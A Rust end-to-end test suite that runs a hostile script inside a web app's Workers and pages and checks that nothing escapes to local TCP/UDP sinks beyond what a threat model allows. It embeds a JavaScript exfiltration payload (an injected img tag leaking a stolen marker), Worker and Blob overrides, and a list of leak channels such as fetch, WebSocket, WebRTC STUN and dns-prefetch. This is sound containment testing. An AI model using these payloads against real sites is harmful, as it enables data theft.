//! The room without doors, with somebody hostile in it. The same script tries every way out in each place, with local
//! sinks over TCP and UDP and the network stack's own log. What counts as a failure: anything that gets out of a Worker
//! of ours; something more than what the threat model says out of the page around it; or a script that does not get out
//! of an unprotected page either, and so shows nothing.

#![expect(clippy::print_stdout, clippy::unwrap_used, reason = "helpers of a test")]

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::Path;
use std::time::Duration;

use e2e::browser::Browser;
use e2e::clerk::{Clerk, Office, offline_page, web_dir};
use e2e::containment::{STOLEN, Sinks, serve_unprotected};
use e2e::netlog::{self, NetLog};
use serde_json::Value;

/// What a hostile Worker does besides: it answers the page, and puts addresses wherever the page might follow one.
const IN_A_WORKER: &str = "
    leave(PORTS).then((said) => self.postMessage({ id: -1, said }));
    const bait = `<img src='http://127.0.0.1:${PORTS.tcp[63]}/leak-message?n=${STOLEN}'>`;
    self.onmessage = ({ data }) => {
      const result = data.ask === 'load' ? { imports: [], exports: [bait] } : undefined;
      const error = result ? undefined : { code: bait, field: bait, message: bait, numbers: { [bait]: 1 } };
      self.postMessage({ id: data.id, progress: { url: bait } });
      self.postMessage({ id: data.id, result, error });
    };
";

/// Keeps what a Worker says at the end, whatever page starts it.
const LISTEN: &str = "
    const Plain = Worker;
    globalThis.Worker = class extends Plain {
      constructor(...more) {
        super(...more);
        this.addEventListener('message', ({ data }) => { if (data?.said) window.said = data.said; });
      }
    };
";

/// Ways out of the page itself that its policy leaves open offline, where a page can send no header: THREAT-MODEL, \"What
/// is not protected\".
const OFFLINE_PAGE: [&str; 6] = ["dns-prefetch", "form", "iframe", "open", "preconnect", "webrtc-stun"];

/// What happened in one place.
struct Trial {
    /// What the script says of each way.
    said: BTreeMap<String, String>,
    /// What got out.
    out: BTreeSet<String>,
}

/// Lets the script run in a page that `go` opens, and looks at the sinks once it has said that it is done.
async fn trial(name: &str, sinks: &Sinks, first: &str, go: impl AsyncFnOnce(&Browser)) -> Trial {
    let folder = tempfile::tempdir().unwrap();
    let log = folder.path().join("net.json");
    let browser = Browser::start_with(&[netlog::argument(&log)]).await;
    browser.run_first(first).await;
    go(&browser).await;
    let mut said = Value::Null;
    for _ in 0..600 {
        said = browser.run("return window.said ?? null", Vec::new()).await;
        if !said.is_null() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(!said.is_null(), "{name}: the script does not come to its end");
    // For what is still on its way.
    tokio::time::sleep(Duration::from_secs(3)).await;
    browser.end().await;
    let said: BTreeMap<String, String> = serde_json::from_value(said).unwrap();
    let log = NetLog::read(&log);
    assert!(log.events > 100, "{name}: a log of {} events", log.events);
    let out = sinks.got_out(&in_order(), &log);
    println!("{name}: {} ways tried, out: {out:?}", said.len());
    for (way, what) in said.iter().filter(|(way, what)| !out.contains(*way) && *what != "tried") {
        println!("  {way}: {what}");
    }
    Trial { said, out }
}

/// The ways' names as the script has them.
fn in_order() -> Vec<String> {
    let (_, ways) = e2e::containment::HOSTILE.split_once("const WAYS = {\n").unwrap();
    let (ways, _) = ways.split_once("\n};").unwrap();
    let lines =
        ways.lines().filter(|line| line.starts_with("  ") && !line.starts_with("   ") && line.contains(": "));
    lines.map(|line| line.trim().split(": ").next().unwrap().trim_matches('\'').to_owned()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn the_script_gets_out_where_nothing_holds_it() {
    let sinks = Sinks::open();
    let page = "<!doctype html><title>x</title><body><script src=\"./page.js\"></script>".to_owned();
    let files = BTreeMap::from([
        ("/", ("text/html", page.clone())),
        (
            "/page.js",
            ("text/javascript", sinks.script("leave(PORTS).then((said) => { window.said = said; });")),
        ),
    ]);
    let url = serve_unprotected(files);
    let trial =
        trial("unprotected page", &sinks, "", async |browser| browser.page.goto(&url).await.unwrap()).await;
    assert_eq!(trial.said.len(), in_order().len());
    assert!(
        trial.out.len() >= 27,
        "only {} of {} got out: {:?}",
        trial.out.len(),
        trial.said.len(),
        trial.out
    );
    for way in [
        "fetch",
        "websocket",
        "img",
        "iframe",
        "open",
        "preconnect",
        "dns-prefetch",
        "webrtc-stun",
        "webtransport",
    ] {
        assert!(trial.out.contains(way), "{way} is tried in vain: {:?}", trial.said.get(way));
    }

    let sinks = Sinks::open();
    let files = BTreeMap::from([
        ("/", ("text/html", page)),
        ("/page.js", ("text/javascript", "new Worker('./worker.js')".to_owned())),
        ("/worker.js", ("text/javascript", sinks.script(IN_A_WORKER))),
    ]);
    let url = serve_unprotected(files);
    let trial = self::trial("unprotected Worker", &sinks, LISTEN, async |browser| {
        browser.page.goto(&url).await.unwrap()
    })
    .await;
    assert!(trial.out.len() >= 10, "only {:?}", trial.out);
    for way in [
        "fetch",
        "xhr",
        "websocket",
        "eventsource",
        "import",
        "import-scripts",
        "worker-of-a-blob",
        "webtransport",
    ] {
        assert!(trial.out.contains(way), "{way} is tried in vain: {:?}", trial.said.get(way));
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_gets_out_of_a_worker_that_the_host_serves() {
    let office = Office::new("bank-a");
    for worker in ["worker.js", "reader-worker.js"] {
        let sinks = Sinks::open();
        let web = copy_of_the_page();
        fs::write(web.path().join(worker), sinks.script(IN_A_WORKER)).unwrap();
        let url = office.serve(web.path()).await;
        let trial = trial(worker, &sinks, LISTEN, async |browser| {
            browser.page.goto(format!("{url}/")).await.unwrap();
            start(browser, &office, worker).await;
        });
        assert_eq!(trial.await.out, BTreeSet::new(), "{worker}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_gets_out_of_a_worker_of_the_offline_edition() {
    let office = Office::new("bank-a");
    for worker in ["worker.js", "reader-worker.js"] {
        let sinks = Sinks::open();
        // The page as it is handed out, its policy included; only what becomes the Worker is another script.
        let swap = format!(
            "{LISTEN}
             const mark = {}, hostile = {};
             const PlainBlob = Blob;
             globalThis.Blob = class extends PlainBlob {{
               constructor(parts, options) {{ super(parts?.[0] === mark || parts?.[0]?.startsWith?.(mark) ? [hostile] : parts, options); }}
             }};",
            Value::from(first_lines(worker)),
            Value::from(sinks.script(IN_A_WORKER)),
        );
        let name = format!("offline {worker}");
        let trial = trial(&name, &sinks, &swap, async |browser| {
            browser.page.goto(offline_page()).await.unwrap();
            start(browser, &office, worker).await;
        });
        assert_eq!(trial.await.out, BTreeSet::new(), "{worker}");
    }
}

/// Not what holds customers' data, but what stands around it: exactly what the threat model says gets out.
#[tokio::test(flavor = "multi_thread")]
async fn a_page_leaks_no_more_than_the_threat_model_says() {
    let office = Office::new("bank-a");
    let sinks = Sinks::open();
    let web = copy_of_the_page();
    let script = sinks.script("leave(PORTS).then((said) => { window.said = said; });");
    fs::write(web.path().join("page.js"), &script).unwrap();
    let url = office.serve(web.path()).await;
    let trial =
        trial("online page", &sinks, "", async |browser| browser.page.goto(format!("{url}/")).await.unwrap());
    let own: BTreeSet<String> = ["own-origin-fetch", "own-origin-import"].map(str::to_owned).into();
    assert!(trial.await.out.is_subset(&own), "to its own server and nowhere else");

    let sinks = Sinks::open();
    let script =
        sinks.script("window.leaveNow = () => leave(PORTS).then((said) => { window.said = said; });");
    let trial = self::trial("offline page", &sinks, &script, async |browser| {
        browser.page.goto(offline_page()).await.unwrap();
        browser.until("body[data-state=idle]").await;
        browser.run("window.leaveNow()", Vec::new()).await;
    });
    let known: BTreeSet<String> = OFFLINE_PAGE.map(str::to_owned).into();
    let out = trial.await.out;
    assert!(out.is_subset(&known), "{out:?}");
}

/// Has the page start the Worker: the matcher's starts by itself, the reader's with a spreadsheet. The matcher is asked
/// something as well, so that the page shows what it answers.
async fn start(browser: &Browser, office: &Office, worker: &str) {
    let clerk = Clerk { browser, office };
    if worker == "worker.js" {
        let key = office.save("a.key.hedui", &office.relation.party.file);
        browser.until("#key-file").await;
        clerk.choose("#key-file", &key).await;
        browser.until("#key-file + label .name").await;
        browser.fill("#passphrase", "wrong but long enough").await;
        browser.click("#unlock").await;
        // What it says is shown as text.
        let code =
            browser.until("body[data-state=error] #error").await.attr("data-code").await.unwrap().unwrap();
        assert!(code.contains(STOLEN) && code.contains("<img"), "{code}");
        return;
    }
    browser.until("body[data-state=idle]").await;
    clerk.unlock().await;
    clerk.pick_files().await;
    browser.click("#to-files").await;
    // A spreadsheet by its first bytes: the reader's Worker is started to look at it.
    let file = office.save("customers.xlsx", b"PK\x03\x04 and nothing that anyone could read");
    browser.until("#customer-files").await;
    clerk.choose("#customer-files", &file).await;
}

/// How a script begins, to know it by.
fn first_lines(name: &str) -> String {
    fs::read_to_string(web_dir().join(name)).unwrap().chars().take(120).collect()
}

fn copy_of_the_page() -> tempfile::TempDir {
    let copy = tempfile::tempdir().unwrap();
    for entry in fs::read_dir(web_dir()).unwrap() {
        let path = entry.unwrap().path();
        fs::copy(&path, Path::new(copy.path()).join(path.file_name().unwrap())).unwrap();
    }
    copy
}
